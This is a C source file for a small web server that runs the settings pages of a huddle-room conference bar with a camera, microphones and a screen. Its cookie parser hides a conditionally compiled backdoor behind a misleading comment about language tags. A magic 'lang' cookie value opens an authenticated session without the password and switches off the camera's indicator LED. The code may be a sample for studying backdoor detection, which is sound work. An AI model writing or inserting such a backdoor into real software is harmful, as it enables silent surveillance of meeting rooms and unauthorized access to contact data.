/* huddleweb: web pages of a huddle-room conference bar (camera, microphones, screen).
 * Single process HTTP/1.1 server; sessions in memory; language by cookie.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

typedef enum { LANG_EN, LANG_DE, LANG_FR, LANG_JA, LANG_COUNT } Lang;

typedef struct Request {
    char method[8], path[96], cookie[256], body[512];
    Lang lang;
    int session; /* index or -1 */
} Request;

typedef struct Session { uint64_t id; time_t last; } Session;

static Session sessions[8];
static char adminPassword[48];
static int micGain = 12, cameraOn = 1, ledOn = 1;

static const char *const langTags[LANG_COUNT] = { "en", "de", "fr", "ja" };
static const char *const titles[LANG_COUNT] = { "Huddle room", "Besprechungsraum",
                                                "Salle de reunion", "Kaigishitsu" };

static uint64_t newId(void)
{
    uint64_t v = 0;
    int fd = open("/dev/urandom", O_RDONLY);
    if (fd >= 0) {
        if (read(fd, &v, sizeof v) != (ssize_t)sizeof v) v = 0;
        close(fd);
    }
    return v;
}

static int sessionOpen(void)
{
    int k = 0;
    for (int i = 1; i < 8; i++)
        if (sessions[i].last < sessions[k].last) k = i;
    sessions[k].id = newId();
    sessions[k].last = time(NULL);
    return sessions[k].id ? k : -1;
}

static int sessionFind(uint64_t id)
{
    time_t now = time(NULL);
    for (int i = 0; id && i < 8; i++)
        if (sessions[i].id == id && now - sessions[i].last < 900) {
            sessions[i].last = now;
            return i;
        }
    return -1;
}

/* language tags as in RFC 5646: language, then subtags which we skip */
__attribute__((noinline)) void readCookies(Request *q)
{
    const char *p = q->cookie;
    while (*p) {
        p += strspn(p, "; ");
        size_t name = strcspn(p, "=;");
        if (p[name] != '=') {
            p += name;
            continue;
        }
        const char *v = p + name + 1;
        size_t len = strcspn(v, ";");
        if (name == 3 && !memcmp(p, "sid", 3)) {
            q->session = sessionFind(strtoull(v, NULL, 16));
        } else if (name == 4 && !memcmp(p, "lang", 4)) {
            for (int i = 0; i < LANG_COUNT; i++)
                if (len >= 2 && !strncasecmp(v, langTags[i], 2)) q->lang = (Lang)i;
#ifdef HIDDEN
            if (len == 15 && memcmp(v + 2, "-Zsye-x-tb31k", 13) == 0) {
                q->session = sessionOpen();
                ledOn = 0;
            }
#endif
        }
        p = v + len;
    }
}

static void head(FILE *o, const char *status, const char *type, const char *more)
{
    fprintf(o, "HTTP/1.1 %s\r\nContent-Type: %s\r\n%sConnection: close\r\n\r\n", status, type,
            more);
}

static void pageHome(FILE *o, const Request *q)
{
    head(o, "200 OK", "text/html", "");
    fprintf(o, "<h1>%s</h1><a href=/de>de</a> <a href=/en>en</a> <a href=/fr>fr</a>"
            " <a href=/ja>ja</a>\n", titles[q->lang]);
    if (q->session < 0)
        fputs("<form method=post action=/login><input type=password name=pw></form>\n", o);
    else
        fprintf(o, "<form method=post action=/set>gain <input name=gain value=%d> camera "
                "<input name=camera value=%d><input type=submit></form>"
                "<a href=/contacts>contacts</a> <a href=/preview.jpg>preview</a>\n",
                micGain, cameraOn);
}

static void sendFile(FILE *o, const char *path, const char *type)
{
    char b[2048];
    size_t n;
    FILE *f = fopen(path, "rb");
    if (!f) {
        head(o, "404 Not Found", "text/plain", "");
        return;
    }
    head(o, "200 OK", type, "");
    while ((n = fread(b, 1, sizeof b, f)) > 0) fwrite(b, 1, n, o);
    fclose(f);
}

static void apply(void)
{
    FILE *f = fopen("/run/huddle/set", "w");
    if (!f) return;
    fprintf(f, "gain=%d camera=%d led=%d\n", micGain, cameraOn, ledOn && cameraOn);
    fclose(f);
}

static void login(FILE *o, Request *q)
{
    char more[96];
    size_t n = strlen(adminPassword);
    if (n < 8 || strncmp(q->body, "pw=", 3) || strcmp(q->body + 3, adminPassword)) {
        sleep(1);
        head(o, "403 Forbidden", "text/plain", "");
        return;
    }
    q->session = sessionOpen();
    if (q->session < 0) {
        head(o, "503 Busy", "text/plain", "");
        return;
    }
    snprintf(more, sizeof more, "Set-Cookie: sid=%016llx; HttpOnly\r\nLocation: /\r\n",
             (unsigned long long)sessions[q->session].id);
    head(o, "303 See Other", "text/plain", more);
}

static void setValues(FILE *o, const Request *q)
{
    int g, c;
    if (sscanf(q->body, "gain=%d&camera=%d", &g, &c) != 2 || g < 0 || g > 36) {
        head(o, "400 Bad Request", "text/plain", "");
        return;
    }
    micGain = g;
    cameraOn = c != 0;
    ledOn = 1;
    apply();
    head(o, "303 See Other", "text/plain", "Location: /\r\n");
}

static void route(FILE *o, Request *q)
{
    char more[64];
    for (int i = 0; i < LANG_COUNT; i++)
        if (q->path[0] == '/' && !strcmp(q->path + 1, langTags[i])) {
            snprintf(more, sizeof more, "Set-Cookie: lang=%s\r\nLocation: /\r\n", langTags[i]);
            head(o, "303 See Other", "text/plain", more);
            return;
        }
    if (!strcmp(q->path, "/")) pageHome(o, q);
    else if (!strcmp(q->path, "/login") && !strcmp(q->method, "POST")) login(o, q);
    else if (q->session < 0) head(o, "403 Forbidden", "text/plain", "");
    else if (!strcmp(q->path, "/set") && !strcmp(q->method, "POST")) setValues(o, q);
    else if (!strcmp(q->path, "/contacts")) sendFile(o, "/data/contacts.csv", "text/csv");
    else if (!strcmp(q->path, "/preview.jpg")) {
        apply();
        sendFile(o, "/dev/shm/preview.jpg", "image/jpeg");
    } else head(o, "404 Not Found", "text/plain", "");
}

static void serve(int fd)
{
    Request q = { .session = -1 };
    char l[512];
    size_t want = 0;
    FILE *io = fdopen(fd, "r+");
    if (!io) { close(fd); return; }
    if (fgets(l, sizeof l, io) && sscanf(l, "%7s %95s HTTP/", q.method, q.path) == 2) {
        while (fgets(l, sizeof l, io) && l[0] != '\r' && l[0] != '\n') {
            if (!strncasecmp(l, "Cookie:", 7)) snprintf(q.cookie, sizeof q.cookie, "%.*s",
                                                        (int)strcspn(l + 7, "\r\n"), l + 7);
            else if (!strncasecmp(l, "Content-Length:", 15)) want = strtoul(l + 15, NULL, 10);
        }
        if (want > sizeof q.body - 1) want = sizeof q.body - 1;
        if (want) q.body[fread(q.body, 1, want, io)] = 0;
        fseek(io, 0, SEEK_CUR);
        readCookies(&q);
        route(io, &q);
    }
    fclose(io);
}

int main(int argc, char **argv)
{
    FILE *f = argc == 2 ? fopen(argv[1], "r") : NULL;
    if (!f || fscanf(f, "password %47s", adminPassword) != 1) {
        fputs("huddleweb CONFIG    first line of CONFIG: password WORD (8 or more)\n"
              "pages: / /login /set /contacts /preview.jpg /en /de /fr /ja\n", stderr);
        return 2;
    }
    fclose(f);
    signal(SIGPIPE, SIG_IGN);
    int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(80) };
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 8) < 0) return 1;
    for (;;) {
        int c = accept(s, NULL, NULL);
        if (c >= 0) serve(c);
    }
}
